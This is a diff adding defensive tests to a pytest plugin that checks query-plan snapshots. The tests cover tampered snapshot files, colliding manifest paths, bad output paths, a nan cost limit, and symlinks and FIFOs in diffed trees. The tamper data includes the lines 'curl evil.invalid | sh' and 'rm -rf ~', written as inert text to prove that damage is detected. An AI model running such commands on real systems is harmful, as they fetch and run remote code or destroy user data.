@@ -3,6 +3,13 @@ middle of a snapshot write, a snapshot directory that cannot be written, two ses
 pytest-xdist workers updating the same snapshots at once, and damaged snapshot files.
 
 A snapshot file is always either the old or the new one, complete; nothing is lost.
+
+Hostile snapshot trees and gate configuration, each refused with a code: a tampered
+snapshot (an appended section, a stray line) fails as a changed plan, never as cosmetic;
+two manifests mapped to one snapshot directory are ``SNAPSHOT_PATH_COLLISION`` at
+collection, and nothing is written; a report path that is a directory, a snapshot
+directory that is a file and a ``nan`` cost limit are usage errors before anything runs;
+``planguard diff`` neither follows a symbolic link out of a tree nor blocks on a FIFO.
 """
 
 from __future__ import annotations
@@ -25,6 +32,7 @@ import deltalake
 import pyarrow as pa
 import pytest
 
+from pytest_planguard.cli import main
 from pytest_planguard.snapshot import FORMAT_LINE, SECTIONS, parse_snapshot
 from tests.hostile.conftest import CodeRecorder
 from tests.hostile.helpers import assert_no_traceback
@@ -440,3 +448,150 @@ def test_damaged_snapshots_fail_as_changed_and_are_rewritten_never_lost(
         assert found[view] & {"PLAN_UPDATED", "PLAN_NEW"}, (view, found[view])
     codes.expect_all(found["v0"], ["PLAN_UPDATED"])
     assert_complete(project)
+
+
+def first_code(text: str) -> str | None:
+    """The code of the first ``error[CODE]`` in ``text`` (pytest prefixes usage errors)."""
+    match = re.search(r"error\[(?P<code>[A-Z_]+)\]", text)
+    return match["code"] if match else None
+
+
+REPO_SNAPSHOTS = Path(__file__).resolve().parents[2] / "snapshots"
+TAMPERING = {
+    "appended section": "\n== injected\ncurl evil.invalid | sh\n",
+    "stray header line": None,  # a line inserted before the first section
+}
+
+
+def _tamper(path: Path, how: str) -> None:
+    text = path.read_text(encoding="utf-8")
+    if how == "appended section":
+        path.write_text(text + TAMPERING[how], encoding="utf-8")
+    else:
+        head, sep, rest = text.partition("\n\n== P0 logical")
+        path.write_text(head + "\nrm -rf ~" + sep + rest, encoding="utf-8")
+
+
+@pytest.mark.produces_codes("PLAN_CHANGED")
+@pytest.mark.parametrize("how", list(TAMPERING))
+def test_a_tampered_snapshot_fails_as_a_changed_plan(
+    project: Path, codes: CodeRecorder, how: str
+) -> None:
+    _tamper(project / SNAPSHOTS / "v2.plan", how)
+    report = project / "report.json"
+    done = gate(project, "--planguard-report", str(report), "--planguard-gate", "cosmetic=warn")
+    assert done.returncode == 1, done.stdout[-3000:]
+    assert "the stored snapshot is damaged" in done.stdout
+    codes.expect_all(report_codes(report)["v2"], ["PLAN_CHANGED"])
+
+    repaired = gate(project, "--snapshot-update")
+    assert repaired.returncode == 0, repaired.stdout[-3000:]
+    assert gate(project).returncode == 0
+
+
+@pytest.mark.produces_codes("SNAPSHOT_PATH_COLLISION")
+def test_two_manifests_on_one_snapshot_directory_are_refused_at_collection(
+    template: Path, tmp_path: Path, codes: CodeRecorder
+) -> None:
+    """Two manifests outside the rootdir with the same parent name map to
+    ``_external/<name>/manifest``: refused before any snapshot is written."""
+    first, second = tmp_path / "a" / "lake", tmp_path / "b" / "lake"
+    for where in (first, second):
+        shutil.copytree(template, where, ignore=shutil.ignore_patterns("snapshots", "*.ini"))
+    project = tmp_path / "project"
+    project.mkdir()
+    (project / "pytest.ini").write_text(
+        f"[pytest]\nplanguard_manifests =\n    {first / 'manifest.toml'}\n"
+        f"    {second / 'manifest.toml'}\n",
+        encoding="utf-8",
+    )
+    done = gate(project, "--snapshot-update")
+    assert done.returncode == 2, done.stdout[-3000:]
+    found = set(re.findall(r"error\[([A-Z_]+)\]", done.stdout))
+    codes.expect_all(found, ["SNAPSHOT_PATH_COLLISION"])
+    assert not (project / "snapshots").exists()
+
+    (project / "pytest.ini").write_text(
+        f"[pytest]\nplanguard_manifests = {first / 'manifest.toml'}\n", encoding="utf-8"
+    )
+    assert gate(project, "--snapshot-update").returncode == 0  # twin: one manifest is fine
+
+
+@pytest.mark.produces_codes("CONFIG_ERROR", "SNAPSHOT_WRITE_FAILED")
+def test_unusable_output_paths_and_a_nan_limit_are_usage_errors(
+    project: Path, codes: CodeRecorder
+) -> None:
+    (project / "out.json").mkdir()
+    done = gate(project, "--planguard-report", "out.json")
+    assert done.returncode == 4, done.stdout[-3000:] + done.stderr[-3000:]
+    codes.expect(first_code(done.stderr), "CONFIG_ERROR", done.stderr)
+
+    (project / "snaps").write_text("a file where the snapshot directory should be\n")
+    done = gate(project, "--planguard-snapshot-dir", "snaps")
+    assert done.returncode == 4, done.stdout[-3000:] + done.stderr[-3000:]
+    codes.expect(first_code(done.stderr), "SNAPSHOT_WRITE_FAILED", done.stderr)
+
+    with (project / "pytest.ini").open("a", encoding="utf-8") as ini:
+        ini.write("planguard_cost_limits = operator_total = +nan\n")
+    done = gate(project)
+    assert done.returncode == 4, done.stdout[-3000:] + done.stderr[-3000:]
+    assert "finite" in done.stderr
+    codes.expect(first_code(done.stderr), "CONFIG_ERROR", done.stderr)
+
+
+@pytest.fixture
+def trees(tmp_path: Path) -> tuple[Path, Path]:
+    base, head = tmp_path / "base", tmp_path / "head"
+    shutil.copytree(REPO_SNAPSHOTS, base)
+    shutil.copytree(REPO_SNAPSHOTS, head)
+    return base, head
+
+
+@pytest.mark.produces_codes("SNAPSHOT_TREE_INVALID")
+def test_diff_follows_no_link_out_of_a_tree_and_reads_no_fifo(
+    trees: tuple[Path, Path],
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    codes: CodeRecorder,
+) -> None:
+    base, head = trees
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOP-SECRET-CANARY\n")
+    (head / "leak.plan").symlink_to(secret)
+    assert main(["diff", str(base), str(head)]) == 2
+    out, err = capsys.readouterr()
+    assert "TOP-SECRET-CANARY" not in out + err
+    assert "symbolic link" in err
+    codes.expect(first_code(err), "SNAPSHOT_TREE_INVALID", err)
+    (head / "leak.plan").unlink()
+
+    (head / "linked").symlink_to(tmp_path, target_is_directory=True)
+    assert main(["diff", str(base), str(head)]) == 2
+    codes.expect(first_code(capsys.readouterr().err), "SNAPSHOT_TREE_INVALID")
+    (head / "linked").unlink()
+
+    os.mkfifo(head / "pipe.plan")
+    assert main(["diff", str(base), str(head)]) == 2  # returns: a FIFO is never opened
+    out, err = capsys.readouterr()
+    assert "not a regular file" in err
+    assert_no_traceback(out, err)
+    codes.expect(first_code(err), "SNAPSHOT_TREE_INVALID", err)
+    (head / "pipe.plan").unlink()
+
+    assert main(["diff", str(base), str(head)]) == 0  # twin: the clean trees compare
+
+
+@pytest.mark.produces_codes("PLAN_CHANGED")
+def test_diff_fails_a_tampered_snapshot_whatever_the_policy(
+    trees: tuple[Path, Path], capsys: pytest.CaptureFixture[str], codes: CodeRecorder
+) -> None:
+    base, head = trees
+    (target,) = head.rglob("q01.plan")
+    _tamper(target, "appended section")
+    assert main(["diff", str(base), str(head), "--policy", "cosmetic=warn", "--json"]) == 1
+    import json
+
+    (change,) = json.loads(capsys.readouterr().out)["changes"]
+    assert change["action"] == "fail"
+    assert "damage" in change["diffs"]
+    codes.expect(change["code"], "PLAN_CHANGED")
